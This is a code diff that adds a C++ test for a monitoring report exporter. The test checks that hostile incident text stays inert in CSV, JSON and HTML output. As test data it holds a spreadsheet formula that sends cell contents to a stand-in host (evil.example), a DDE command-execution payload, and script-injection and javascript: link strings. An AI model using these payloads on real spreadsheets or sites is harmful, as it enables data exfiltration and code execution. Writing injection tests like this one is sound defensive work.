@@ -451,3 +451,93 @@ TEST_CASE("report: a month with a DST change lasts its real length, and February
   }
   std::filesystem::remove_all(dir);
 }
+
+namespace {
+
+/// The rows of @p csv (RFC 4180: quoted fields may hold commas, quotes and line breaks).
+std::vector<std::vector<std::string>> ParseCsv(const std::string& csv) {
+  std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
+  bool quoted = false;
+  for (size_t i = 0; i < csv.size(); ++i) {
+    const char c = csv[i];
+    if (quoted) {
+      if (c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') rows.back().back() += '"', ++i;
+      else if (c == '"') quoted = false;
+      else rows.back().back() += c;
+    } else if (c == '"') {
+      quoted = true;
+    } else if (c == ',') {
+      rows.back().emplace_back();
+    } else if (c == '\n') {
+      rows.emplace_back(1);
+    } else {
+      rows.back().back() += c;
+    }
+  }
+  if (rows.back().size() == 1 && rows.back()[0].empty()) rows.pop_back();
+  return rows;
+}
+
+}  // namespace
+
+TEST_CASE("report: hostile ids, summaries and runbooks stay data in CSV, JSON and HTML") {
+  const std::string dir = testing::MakeTempDir("hops-report");
+  {
+    auto store = StateStore::Open(dir + "/state.db");
+    const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    const std::string long_summary = "line1\nline2, \"quoted\" " + std::string(10 * 1024, 'x') + " \xff\xfe end";
+    const std::string key = "web,\"x\"/-n1";
+    store->AppendStatusChanges({{key, kMonth + kDay, "", "critical", formula},
+                                {key, kMonth + 2 * kDay, "critical", "ok", "up"},
+                                {"db", kMonth + kDay, "", "warning", long_summary},
+                                {"db", kMonth + 2 * kDay, "warning", "ok", "up"},
+                                {"app", kMonth + kDay, "", "unknown", "@SUM(1+1)*cmd|' /C calc'!A0"}});
+    report::Input in;
+    in.month = "2026-11";
+    in.span = {kMonth, kMonthEnd};
+    in.now_ms = kMonthEnd;
+    report::InstanceInfo web;
+    web.key = key;
+    web.monitor = "web,\"x\"";
+    web.node = "-n1";
+    web.runbook = "+1 call </style><script>alert(1)</script>";
+    report::InstanceInfo db;
+    db.key = db.monitor = "db";
+    db.runbook = "javascript:alert(1)";
+    report::InstanceInfo app;
+    app.key = app.monitor = "app";
+    in.instances = {web, db, app};
+    const report::Report r = report::Build(store.get(), in);
+    REQUIRE(r.incidents.size() == 3);
+
+    const auto rows = ParseCsv(report::RenderCsv(r));
+    const size_t width = rows.front().size();
+    std::vector<std::vector<std::string>> incidents;
+    for (const auto& row : rows) {
+      CHECK(row.size() == width);  // no field broke out of its row
+      if (row[0] == "incident") incidents.push_back(row);
+    }
+    REQUIRE(incidents.size() == 3);
+    std::map<std::string, std::vector<std::string>> by_monitor;
+    for (const auto& row : incidents) by_monitor[row[2]] = row;
+    // A field a spreadsheet would run as a formula opens as text: a leading apostrophe.
+    CHECK(by_monitor.at("web,\"x\"")[25] == "'" + formula);
+    CHECK(by_monitor.at("web,\"x\"")[3] == "'-n1");
+    CHECK(by_monitor.at("web,\"x\"")[26] == "'+1 call </style><script>alert(1)</script>");
+    CHECK(by_monitor.at("app")[25].rfind("'@SUM", 0) == 0);
+    // The long summary comes back whole, its invalid bytes as U+FFFD.
+    CHECK(by_monitor.at("db")[25].size() > 10 * 1024);
+    CHECK(by_monitor.at("db")[25].rfind("line1\nline2, \"quoted\" ", 0) == 0);
+    CHECK(by_monitor.at("db")[25].find("\xEF\xBF\xBD\xEF\xBF\xBD end") != std::string::npos);
+
+    const auto j = nlohmann::json::parse(report::RenderJson(r));  // valid JSON despite the bytes
+    CHECK(j["incidents"].size() == 3);
+
+    const std::string html = report::RenderHtml(r, "en");
+    CHECK(html.find("<script") == std::string::npos);
+    CHECK(html.find("</style><") == std::string::npos);
+    CHECK(html.find("href=\"javascript") == std::string::npos);
+    CHECK(html.find("\xff") == std::string::npos);
+  }
+  std::filesystem::remove_all(dir);
+}
